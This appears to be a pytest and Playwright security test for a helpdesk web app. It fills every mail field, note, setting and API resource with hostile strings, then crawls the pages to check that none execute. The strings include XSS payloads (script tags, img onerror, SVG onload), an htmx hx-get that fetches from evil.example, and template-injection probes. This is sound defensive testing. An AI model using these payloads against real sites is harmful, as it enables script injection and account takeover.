"""What somebody else wrote is shown as text: the whole desk is walked with hostile words in every place."""

from collections.abc import Iterator
from dataclasses import dataclass, field
from email.message import EmailMessage
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Request

from tests.browser.conftest import PATIENCE_MS
from tests.browser.desk import EMAIL, PASSWORD, is_at, log_in
from tests.service import Home, MaildirOf, Rest, Service, a_mail, eventually, rest

pytestmark = pytest.mark.slow

# Ends a text, an attribute, a title, a textarea, a script; holds a template, and attributes that htmx would obey.
EVIL = (
    "x\"'><img src=//evil.example/i onerror=pwned=1></title></textarea></script>"
    '<script>pwned=1</script><b hx-get="//evil.example/h" hx-trigger="load">{{7*7}}${7*7}</b>'
)
SHORT = "\"'><img src=//evil.example/s onerror=pwned=1>{{7*7}}"
MOST_PAGES = 150
QUERY = "?q=" + "%22%3E%3Cscript%3Epwned%3D1%3C%2Fscript%3E"


@dataclass
class Walk:
    """A browser that goes everywhere, and what it saw that must not be."""

    page: Page
    home: str
    seen: set[str] = field(default_factory=set)
    wrong: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("console", self._on_console)
        self.page.on("pageerror", lambda error: self._tell(f"error {error}"))
        self.page.on("dialog", lambda dialog: (self._tell(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("request", self._on_request)

    def everywhere(self, *starts: str) -> None:
        waiting = list(starts)
        while waiting and len(self.seen) < MOST_PAGES:
            path = waiting.pop(0)
            if path in self.seen:
                continue
            self.seen.add(path)
            waiting += self._links(path)

    def _links(self, path: str) -> list[str]:
        """Open the page, look at it, and find where it leads."""
        answer = self.page.goto(self.home + path, wait_until="load")
        if answer is None or answer.status >= 500:
            self._tell(f"status {answer.status if answer else 'none'}")
        self.page.eval_on_selector_all("details", "all => all.forEach(one => (one.open = true))")
        if self.page.evaluate("() => window.pwned") is not None:
            self._tell("ran")
        found = self.page.eval_on_selector_all("a[href]:not([download])", "all => all.map(one => one.href)")
        return sorted({where for one in found if (where := self._own(one))})

    def _own(self, address: str) -> str | None:
        parts = urlsplit(address)
        if parts.scheme not in ("http", "https"):
            if parts.scheme not in ("mailto", "tel"):
                self._tell(f"link to {address[:80]}")
            return None
        is_ours = address.startswith(self.home + "/")
        is_file = any(word in parts.path for word in ("/raw", "/attachments/", "/static/", "/document", ".csv"))
        return parts.path + (f"?{parts.query}" if parts.query else "") if is_ours and not is_file else None

    def _on_console(self, message: ConsoleMessage) -> None:
        # Of pages that are not there the browser says so itself.
        if message.type in ("error", "warning") and "status of 404" not in message.text:
            self._tell(f"console: {message.text[:200]}")

    def _on_request(self, request: Request) -> None:
        if not request.url.startswith((self.home, "data:", "about:", "blob:")):
            self._tell(f"asked {request.url[:80]}")

    def _tell(self, what: str) -> None:
        self.wrong.append(f"{urlsplit(self.page.url).path}: {what}")


@dataclass(frozen=True)
class Hostile:
    """A desk whose every word is an attack."""

    service: Service
    rest: Rest
    ticket_id: str


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    home = Home.at(tmp_path_factory.mktemp("hostile"), CA_DESK_NAME=SHORT, CA_UNDO_WINDOW_S="600")
    home.command("operator", "add", EMAIL, "--role", "admin", "--name", SHORT, "--password-stdin", stdin=PASSWORD)
    home.command(
        "operator", "add", "bo'<b>@x.example", "--role", "viewer", "--name", SHORT, "--password-stdin", stdin=PASSWORD
    )
    token, maildir = home.token("admin", name=SHORT), home.maildir()
    with Service(home) as service:
        client = rest(service, token)
        yield Hostile(service, client, fill(client, maildir))


def fill(client: Rest, maildir: MaildirOf) -> str:
    """Hostile words wherever mail or the interface takes words; the id of the ticket that holds most of them."""
    maildir.deliver(a_hostile_mail())
    maildir.deliver(a_mail(EVIL, EVIL, "robot <robot@evil.example>", Auto_Submitted="auto-generated"))
    maildir.deliver(b"Subject: " + b"(" * 3000 + EVIL.encode() + b"\r\nFrom: x@evil.example\r\n\r\nquarantine me\r\n")
    client.sync()
    waiting = eventually(lambda: client.tickets(status="NEEDS_ACTION"))
    ticket = client.ticket(waiting[0]["id"])
    path = f"/tickets/{ticket['id']}"
    client.post(f"{path}/notes", {"text": f"{EVIL} @{EMAIL}"})
    client.post(f"{path}/draft", {"subject": SHORT, "body": EVIL, "revision": (ticket["draft"] or {}).get("revision")})
    client.post(f"{path}/tags", {"tags": [SHORT], "add": [SHORT]})
    client.post("/settings/categories", {"key": "evil", "title": SHORT, "description": EVIL, "hint": EVIL})
    client.post("/views", {"name": SHORT, "query": QUERY, "filters": {"q": EVIL}})
    client.post("/knowledge/articles", {"title": SHORT, "body": EVIL, "text": EVIL, "language": "en"})
    client.post("/macros", {"title": SHORT, "name": SHORT, "body": EVIL, "text": EVIL, "language": "en"})
    client.post("/settings/routing", {"name": SHORT, "rules": []})
    client.post("/webhooks", {"url": "https://evil.example/?" + SHORT, "name": SHORT, "events": ["sent"]})
    client.post("/invitations", {"email": "i\"'><b>@x.example", "role": "viewer"})
    client.post("/tokens", {"name": f"second {SHORT}", "scopes": ["tickets:read"]})
    found: str = ticket["id"]
    return found


def a_hostile_mail() -> EmailMessage:
    mail = a_mail(EVIL, EVIL, "anna@evil.example")
    del mail["From"]
    mail["From"] = f'"{SHORT.replace(chr(34), "")}" <anna@evil.example>'
    mail["Cc"] = f'"{SHORT.replace(chr(34), "")}" <carl@evil.example>'
    mail["Reply-To"] = f'"{SHORT.replace(chr(34), "")}" <other@elsewhere.example>'
    mail.add_attachment(b"<script>pwned=1</script>", maintype="text", subtype="html", filename=f"{SHORT}.html")
    mail.add_attachment(b"<svg onload=pwned=1>", maintype="image", subtype="svg+xml", filename="a'<img>.svg")
    return mail


def test_no_page_of_the_desk_runs_asks_or_breaks_for_what_others_wrote(browser: Browser, hostile: Hostile) -> None:
    context = browser.new_context(locale="en-GB", viewport={"width": 1280, "height": 900})
    context.set_default_timeout(PATIENCE_MS)
    page = context.new_page()
    log_in(page, hostile.service.url)
    is_at(page, "/boards/needs-action")
    walk = Walk(page, hostile.service.url)

    walk.everywhere(
        "/boards/needs-action",
        f"/boards/tickets/{hostile.ticket_id}",
        f"/boards/search{QUERY}",
        f"/boards/done{QUERY}",
        "/boards/settings",
        "/boards/me",
        "/boards/nowhere",
    )
    context.close()

    assert "\n".join(walk.wrong) == ""
    assert len(walk.seen) > 30
    assert any("/settings/operators/" in path for path in walk.seen)
